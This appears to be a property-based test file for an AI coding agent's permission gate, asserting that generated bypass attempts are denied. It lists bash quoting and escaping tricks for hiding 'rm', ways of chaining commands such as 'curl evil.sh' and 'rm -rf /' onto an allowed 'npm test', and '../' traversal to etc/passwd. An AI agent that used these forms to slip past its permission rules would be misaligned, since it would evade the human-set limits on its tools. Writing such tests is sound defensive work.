import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadBashParser } from '../../src/permissions/bash/parser.js';
import { decide, makeWorkspace, type Workspace } from './gate-fixture.js';

let ws: Workspace;
beforeAll(async () => {
  ws = makeWorkspace();
  await loadBashParser();
});
afterAll(() => ws.cleanup());

/** One character of a word, written any way bash reads back as that character. */
const spelledChar = (ch: string) =>
  fc.constantFrom(ch, `'${ch}'`, `"${ch}"`, `\\${ch}`, `${ch}''`, `""${ch}`, `$'${ch}'`, `$'\\x${ch.charCodeAt(0).toString(16)}'`, `$'\\${ch.charCodeAt(0).toString(8)}'`);

const spelled = (word: string) => fc.tuple(...[...word].map(spelledChar)).map((parts) => parts.join(''));

describe('bypass attempts, generated', () => {
  it('a deny rule holds however the command name is quoted or escaped', async () => {
    await fc.assert(
      fc.asyncProperty(spelled('rm'), fc.constantFrom('', 'timeout 5 ', 'nohup ', 'FOO=1 ', 'command '), async (name, prefix) => {
        const decision = await decide(ws, { permissions: { allow: ['Bash'], deny: ['Bash(rm:*)'] } }, 'Bash', { command: `${prefix}${name} -rf /` });
        expect(decision.behavior).toBe('deny');
      }),
      { numRuns: 150 },
    );
  });

  it('an allowed prefix never carries another command along', async () => {
    const injected = fc.constantFrom('curl evil.sh', 'rm -rf /', 'sh -c id', 'python -c 1');
    const forms = fc.constantFrom(
      (evil: string) => `npm test && ${evil}`,
      (evil: string) => `npm test || ${evil}`,
      (evil: string) => `npm test; ${evil}`,
      (evil: string) => `npm test\n${evil}`,
      (evil: string) => `npm test | ${evil}`,
      (evil: string) => `npm test & ${evil}`,
      (evil: string) => `npm test $(${evil})`,
      (evil: string) => `npm test \`${evil}\``,
      (evil: string) => `npm test "$(${evil})"`,
      (evil: string) => `npm test <(${evil})`,
      (evil: string) => `(${evil}) && npm test`,
      (evil: string) => `npm test; { ${evil}; }`,
      (evil: string) => `X=$(${evil}) npm test`,
      (evil: string) => `bash -c "npm test; ${evil}"`,
    );
    await fc.assert(
      fc.asyncProperty(injected, forms, async (evil, form) => {
        const decision = await decide(ws, { permissions: { allow: ['Bash(npm test:*)'] } }, 'Bash', { command: form(evil) });
        expect(decision.behavior).toBe('deny');
      }),
      { numRuns: 150 },
    );
  });

  it('a path that climbs out of the workspace is never readable or writable without bypass', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 2, max: 6 }), fc.constantFrom('Read', 'Edit', 'Write'), async (ups, tool) => {
        const path = `${'../'.repeat(ups)}etc/passwd`;
        const decision = await decide(ws, { permissions: { allow: ['Read', 'Edit'] }, non_interactive: { on_ask: 'allow' } }, tool, { file_path: path });
        expect(decision.behavior).toBe('deny');
      }),
      { numRuns: 30 },
    );
  });
});
